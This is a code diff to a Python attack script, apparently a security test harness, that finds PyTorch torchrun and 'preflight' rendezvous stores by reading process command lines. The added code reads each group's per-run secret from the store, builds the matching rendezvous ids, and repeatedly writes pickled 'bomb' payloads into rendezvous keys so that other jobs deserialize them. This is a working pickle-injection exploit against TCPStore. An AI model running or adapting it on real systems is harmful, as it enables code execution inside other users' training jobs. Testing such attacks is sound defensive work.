@@ -49,14 +49,14 @@ def targets(addr: str | None, under: str) -> tuple[set[tuple[str, int]], set[str
                 argv = [a.decode(errors="replace") for a in f.read().split(b"\0")]
         except OSError:
             continue
-        if not any("torch.distributed.run" in a or a.endswith(("world.py", "meeting.py")) for a in argv):
+        if not any("torch.distributed.run" in a or a.endswith(("world.py", "meeting.py")) or a == "preflight" for a in argv):
             continue
         if not any(under in a for a in argv):
             continue
         opts = dict(zip(argv, argv[1:]))
-        if "--rdzv-endpoint" in opts:
+        if "--rdzv-endpoint" in opts:  # torchrun's store, and preflight's meeting point beside it
             host, _, port = opts["--rdzv-endpoint"].rpartition(":")
-            found.add((addr or host, int(port)))
+            found |= {(addr or host, int(port)), (addr or host, int(port) + 1)}
         if "--master-port" in opts:
             found.add((addr or opts.get("--master-addr", "127.0.0.1"), int(opts["--master-port"])))
         if "--rdzv-id" in opts:
@@ -87,17 +87,36 @@ def keys(ids: set[str]) -> list[str]:
     return out
 
 
+def secrets_of(store, ids: set[str], log: dict) -> set[str]:
+    """A group's meeting point hands its per-run word to whoever knows the group's id:
+    the rendezvous ids torchrun then uses, built as preflight builds them."""
+    more = set()
+    for rid in ids | {"preflight"}:
+        try:
+            if store.check([f"{rid}/secret"]):
+                word = store.get(f"{rid}/secret").decode()
+                log["secrets"].append(word)
+                more |= {f"{rid}-{check}-{word}" for check in ("nccl", "bandwidth")}
+        except Exception:  # noqa: BLE001 - not a meeting point
+            pass
+    return more
+
+
 def attack(host: str, port: int, ids: set[str], mark: str, log: dict) -> None:
+    log["seen"].append(f"{host}:{port}")
     try:
         with socket.create_connection((host, port), timeout=1):
             pass
     except OSError as e:
         log["refused"].append(f"{host}:{port} ({e.strerror or e})")
+        time.sleep(0.01)
         return
     log["connected"].append(f"{host}:{port}")
     try:
         store = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=datetime.timedelta(seconds=2))
         bomb = pickle.dumps(Payload(mark))
+        ids = ids | secrets_of(store, ids, log)
+        log["ids"] = sorted(set(log["ids"]) | ids)
         for key in keys(ids):
             store.set(key, base64.b64encode(bomb) if key.startswith("torch.rendezvous.") else bomb)
         log["stored"].append(f"{host}:{port}")
@@ -129,19 +148,20 @@ def main() -> int:
     args = p.parse_args()
     out = os.open(args.out, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
     become(args.user)
-    log: dict = {"uid": os.getuid(), "seen": [], "ids": [], "connected": [], "refused": [], "stored": [], "errors": []}
-    tried: set[tuple[str, int]] = set()
+    log: dict = {"uid": os.getuid(), "seen": [], "ids": [], "secrets": [], "connected": [], "refused": [], "stored": [], "errors": []}
     until = time.monotonic() + args.limit
     stop: list[int] = []
     signal.signal(signal.SIGTERM, lambda *_: stop.append(1))  # the test is done: write the log whole, then go
     while time.monotonic() < until and not stop:
         found, ids = targets(args.addr, args.under)
         log["ids"] = sorted(set(log["ids"]) | ids)
-        for target in sorted(found - tried):
-            tried.add(target)
-            log["seen"].append(f"{target[0]}:{target[1]}")
+        # Again and again: a group's store is up only while a group check runs, and the
+        # per-run word is known only once the meeting point has been read.
+        for target in sorted(found):
             attack(*target, set(log["ids"]), args.mark, log)
         time.sleep(0.05)
+    for key in ("seen", "secrets", "connected", "refused", "stored", "errors"):
+        log[key] = sorted(set(log[key]))
     os.write(out, json.dumps(log).encode())
     return 0
 
